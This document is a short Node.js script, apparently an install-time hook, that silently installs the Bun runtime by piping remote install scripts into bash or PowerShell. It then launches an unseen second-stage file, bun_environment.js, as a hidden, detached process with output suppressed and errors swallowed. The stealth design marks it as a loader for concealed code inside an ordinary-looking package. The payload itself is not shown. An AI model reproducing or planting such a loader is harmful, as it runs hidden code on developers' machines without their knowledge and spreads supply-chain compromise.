#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  if (process.platform === 'win32') {
    process.env.PATH = `${process.env.PATH};${path.join(process.env.USERPROFILE || '', '.bun', 'bin')}`;
  } else {
    process.env.PATH = `${process.env.PATH}:${path.join(os.homedir(), '.bun', 'bin')}`;
  }
}

async function downloadAndSetupBun() {
  try {
    if (process.platform === 'win32') {
      execSync('powershell -c "irm bun.sh/install.ps1|iex"', { stdio: 'ignore' });
    } else {
      execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
    }
    reloadPath();
    const bunPath = process.platform === 'win32'
      ? path.join(process.env.USERPROFILE || '', '.bun', 'bin', 'bun.exe')
      : path.join(os.homedir(), '.bun', 'bin', 'bun');
    return fs.existsSync(bunPath) ? bunPath : 'bun';
  } catch {
    return null;
  }
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, {
    stdio: 'ignore',
    cwd: opts.cwd || process.cwd(),
    env: Object.assign({}, process.env, opts.env || {}),
    detached: true,
    windowsHide: true
  });
  child.on('error', () => {});
  child.unref();
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  if (!bunExecutable) process.exit(0);
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) {
    runExecutable(bunExecutable, [environmentScript]);
  }
}

main().catch(() => process.exit(0));
